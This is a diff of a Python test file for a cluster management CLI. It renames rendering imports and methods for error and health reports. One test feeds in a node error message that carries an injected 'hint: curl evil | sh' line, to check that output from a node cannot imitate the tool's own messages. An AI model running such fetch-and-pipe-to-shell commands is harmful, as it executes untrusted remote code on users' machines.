@@ -14,8 +14,14 @@ from clusterctl.errors import (
     UnhealthyError,
 )
 from clusterctl.health.model import Finding, Status
-from clusterctl.render.errors import render_error
-from clusterctl.render.health import HealthView, NodeHealth, format_health_json, health_prometheus, render_health
+from clusterctl.render.error_messages import render_error
+from clusterctl.render.health_report import (
+    HealthReport,
+    NodeHealth,
+    format_health_json,
+    format_health_prometheus,
+    render_health,
+)
 
 if TYPE_CHECKING:
     from conftest import Screen
@@ -73,7 +79,7 @@ def test_what_a_node_says_does_not_look_like_ours(several: bool, new_screen: typ
     screen = new_screen()
     said = ConnectError("gpu01", "no\nerror: gpu02: host key changed\r\nhint: curl evil | sh", hint="x\nhint: y")
     error = NodesError([said, AuthError("gpu05", "no key was accepted")]) if several else said
-    screen.terminal.lines(render_error(error, screen.terminal))
+    screen.terminal.write_lines(render_error(error, screen.terminal))
 
     lines = screen.text.splitlines()
     assert [line for line in lines if not line.startswith(" ")] == [
@@ -90,7 +96,7 @@ def test_teardown_names_what_is_left(pipe: Terminal) -> None:
 
 def test_words_are_coloured_only_where_colours_are(new_screen: type[Screen]) -> None:
     screen = new_screen(colour=True)
-    screen.terminal.lines(render_error(RefusedError("no"), screen.terminal))
+    screen.terminal.write_lines(render_error(RefusedError("no"), screen.terminal))
     assert screen.text == "\x1b[31;1merror\x1b[0m: no\n"
 
 
@@ -98,7 +104,7 @@ def finding(check: str, status: Status, message: str, node: str, **more: object)
     return Finding(check=check, status=status, message=message, node=node, **more)  # type: ignore[arg-type]
 
 
-HEALTH = HealthView(
+HEALTH = HealthReport(
     verdict=Status.FAIL,
     nodes=(
         NodeHealth(
@@ -146,7 +152,7 @@ def test_health_has_the_agreed_keys() -> None:
 
 
 def test_prometheus_lines_are_unique_and_escaped() -> None:
-    lines = health_prometheus(HEALTH)
+    lines = format_health_prometheus(HEALTH)
     assert len(lines) == len(set(lines))
     assert 'clusterctl_health_finding{node="gpu01",check="gpu.ecc",status="FAIL",gpu="3"} 1' in lines
 
